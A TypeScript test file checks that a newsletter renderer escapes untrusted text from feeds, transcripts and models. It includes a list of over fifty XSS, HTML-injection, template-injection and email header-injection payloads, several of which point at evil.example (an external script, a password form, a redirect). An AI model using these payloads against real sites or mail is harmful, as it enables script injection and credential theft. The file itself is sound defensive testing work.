/** Texts and addresses from feeds, transcripts and models are data: nothing in them becomes markup. */
import { describe, expect, it } from 'vitest';
import { renderEdition } from '../../edition/index.ts';
import { BRAND, fixture, withEveryText } from './issues.ts';
import { elements, linksOf, parsePage, visibleText } from './page.ts';

const PAYLOADS = [
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '"><script src=//evil.example/x.js></script>',
  "'><script>alert(1)</script>",
  '<img src=x onerror=alert(1)>',
  '"><img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java\tscript:alert(1)">x</a>',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\nscript:alert(1)',
  '\u0001javascript:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'https://evil.example/" onmouseover="alert(1)',
  "https://evil.example/' onmouseover='alert(1)",
  'https://evil.example/><script>alert(1)</script>',
  'https://user:pass@evil.example/',
  '//evil.example/x',
  '" onmouseover="alert(1)',
  "' onmouseover='alert(1)",
  '" style="background:url(https://evil.example/x)',
  '</style><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</td></tr></table><h1>mine</h1>',
  '<!--[if mso]><script>alert(1)</script><![endif]-->',
  '--><script>alert(1)</script><!--',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<form action=https://evil.example><input type=password name=p></form>',
  '<video><source onerror=alert(1)></video>',
  '<details open ontoggle=alert(1)>',
  '<style>@import url(https://evil.example/x.css);</style>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\u003cscript\u003ealert(1)\u003c/script\u003e',
  '＜script＞alert(1)＜/script＞',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '{{constructor.constructor("alert(1)")()}}',
  '$' + '{alert(1)}',
  'x\u202e"><script>alert(1)</script>',
  'a\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  'Subject\r\nBcc: everyone@evil.example',
];

const ALLOWED_TAGS = new Set(
  'html head meta title style body div table tbody tr td p h1 h2 h3 span b a'.split(' '),
);
const ALLOWED_ATTRIBUTES = new Set(
  'lang dir xmlns charset name content class style role aria-label aria-hidden width cellpadding cellspacing border align href'.split(
    ' ',
  ),
);
const STAYS = /\.(startDate|endDate|publishDate|release_date|episodeId|state)$/;
/** Every field of every section, with few enough episodes to be quick. */
const BASE = { ...fixture('full'), episodes: fixture('full').episodes.slice(0, 6) };
const clean = parsePage(renderEdition(BASE, BRAND).html);
const STYLES = new Set(elements(clean).map((it) => it.attribs.style));

function expectHarmless(html: string): void {
  const dom = parsePage(html);
  for (const it of elements(dom)) {
    expect(ALLOWED_TAGS.has(it.name), `<${it.name}>`).toBe(true);
    for (const name of Object.keys(it.attribs))
      expect(ALLOWED_ATTRIBUTES.has(name), `${it.name} ${name}`).toBe(true);
    if (it.attribs.style?.includes('url(')) expect(it.attribs.style).toBe('');
  }
  for (const { href } of linksOf(dom)) expect(href).toMatch(/^https?:\/\/[\w.:-]+(\/[^\s"<>]*)?$/);
  expect(html.match(/<style>/g)).toHaveLength(2);
  expect(html.match(/<!--/g)).toHaveLength(3);
  expect(html.match(/<h1/g)?.length ?? 0).toBeLessThanOrEqual(1);
}

describe('S15: the checks themselves', () => {
  it('would see an attack', () => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(40);
    expect(STYLES.size).toBeGreaterThan(20);
    const page = renderEdition(BASE, BRAND).html;
    expect(() => expectHarmless(page)).not.toThrow();
    for (const raw of [
      '<img src=x onerror=alert(1)>',
      '<a href="javascript:alert(1)">x</a>',
      '<p onclick=x>',
    ])
      expect(() => expectHarmless(page.replace('</h1>', `${raw}</h1>`))).toThrow();
  });
});

describe.each(PAYLOADS)('S15: %j', (payload) => {
  it('stays text in every field of the issue', () => {
    const issue = withEveryText(BASE, (text, path) => (STAYS.test(path) ? text : payload));
    const mail = renderEdition(issue, BRAND);
    expectHarmless(mail.html);
    expect(mail.subject).not.toMatch(/\p{Cc}/u);
    expect(mail.preheader).not.toMatch(/\p{Cc}/u);
  });

  it('stays text behind and before real words, dates and ids included', () => {
    const issue = withEveryText(BASE, (text, path) =>
      path.endsWith('.state') ? text : `${text}${payload}${text}`,
    );
    expectHarmless(renderEdition(issue, BRAND).html);
  });

  it('stays text in the brand', () => {
    const brand = withEveryText(BRAND, () => payload);
    const mail = renderEdition(BASE, brand, { timeZone: payload });
    expectHarmless(mail.html);
    expect(mail.html).not.toContain('@font-face');
  });
});

it('shows a payload as its author typed it', () => {
  const issue = { ...BASE, title: '<b>Fees & "rates"</b>' };
  const { html, subject } = renderEdition(issue, BRAND);
  expect(visibleText(parsePage(html))).toContain('<b>Fees & “rates”</b>');
  expect(subject).toBe('The Walkthrough No. 16: <b>Fees & “rates”</b>');
});
